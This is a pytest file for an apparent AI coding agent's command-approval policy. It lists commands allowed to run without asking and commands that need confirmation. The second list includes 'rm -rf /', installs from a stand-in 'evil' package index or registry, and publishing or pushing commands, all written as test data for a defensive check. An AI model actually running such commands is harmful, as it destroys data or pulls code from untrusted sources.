"""Which commands run without asking (R5)."""

import shlex

import pytest

from samokoder.agents.checks.check import Check
from samokoder.agents.execute.command import Command, Purpose
from samokoder.agents.execute.policy import judge
from samokoder.agents.settings import ExecuteSettings

DEFAULT = ExecuteSettings()

ALLOWED = [
    ("python3 -m pytest -q", Purpose.TEST, False),
    ("python3.12 -m unittest discover -s tests", Purpose.TEST, False),
    (".venv/bin/python -m pytest", Purpose.TEST, False),
    ("/usr/bin/python3 -m mypy .", Purpose.TEST, False),
    ("pytest", Purpose.TEST, False),
    ("npm test", Purpose.TEST, False),
    ("node --test", Purpose.TEST, False),
    ("go test ./...", Purpose.TEST, False),
    ("cargo test --quiet", Purpose.TEST, False),
    ("node_modules/.bin/tsc --noEmit", Purpose.BUILD, False),
    ("npm run build", Purpose.BUILD, False),
    ("go build ./...", Purpose.BUILD, False),
    ("make", Purpose.BUILD, False),
    ("python3 -m venv .venv", Purpose.INSTALL, False),
    (".venv/bin/python -m pip install -r requirements.txt", Purpose.INSTALL, True),
    ("pip3 install flask>=3", Purpose.INSTALL, True),
    ("npm ci --no-audit", Purpose.INSTALL, True),
    ("npm install", Purpose.INSTALL, True),
]

ASKED = [
    "rm -rf /",
    "curl http://127.0.0.1:1/x",
    "python3 setup.py install",
    "python3 -c 'import os'",
    "sh -c 'pytest -q'",
    "env pytest",
    "./pytest",
    "tools/pytest -q",
    "bin/python -m pytest",
    "make deploy",
    "npm run deploy",
    "npm publish",
    "npx create-something",
    "git push",
    "docker run x",
    "pip install --index-url http://evil/simple x",
    "pip install --index-url=http://evil/simple x",
    "pip install git+ssh://host/x",
    "pip install https://host/x.whl",
    "pip install ../elsewhere",
    "pip install --target / x",
    "npm install -g x",
    "npm install github:user/x",
    "npm install --registry=http://evil x",
    "npm ci --prefix /elsewhere",
]


@pytest.mark.parametrize(("text", "purpose", "network"), ALLOWED)
def test_well_known_tools_are_allowed(text: str, purpose: Purpose, network: bool) -> None:
    judged = judge(Command(tuple(shlex.split(text))), DEFAULT)
    assert (judged.allowed, judged.purpose, judged.network) == (True, purpose, network)


@pytest.mark.parametrize("text", ASKED)
def test_everything_else_is_asked_for_with_a_reason(text: str) -> None:
    judged = judge(Command(tuple(shlex.split(text))), DEFAULT)
    assert not judged.allowed
    assert judged.reason


def test_an_empty_command_is_not_allowed() -> None:
    assert not judge(Command(()), DEFAULT).allowed


def test_the_projects_own_checks_are_allowed_word_for_word() -> None:
    check = Check("lint", "command", ("sh", "-c", "./lint && true"), cwd="web")
    own = Command(check.argv, cwd="web")
    assert judge(own, DEFAULT, (check,)).allowed
    assert not judge(Command(check.argv), DEFAULT, (check,)).allowed, "another folder"
    assert not judge(Command((*check.argv, "x"), cwd="web"), DEFAULT, (check,)).allowed


def test_settings_allow_more_by_pattern() -> None:
    more = ExecuteSettings(allow=("make docs", "npm run *", "tool sub **"))
    for text in ("make docs", "npm run anything", "tool sub", "tool sub a b"):
        assert judge(Command(tuple(text.split())), more).allowed, text
    for text in ("make docs x", "npm run a b", "tool other"):
        assert not judge(Command(tuple(text.split())), more).allowed, text


def test_a_command_reads_as_it_would_be_typed() -> None:
    command = Command(("python", "-m", "pytest", "-k", "a and b", ""))
    assert shlex.split(command.text) == list(command.argv)
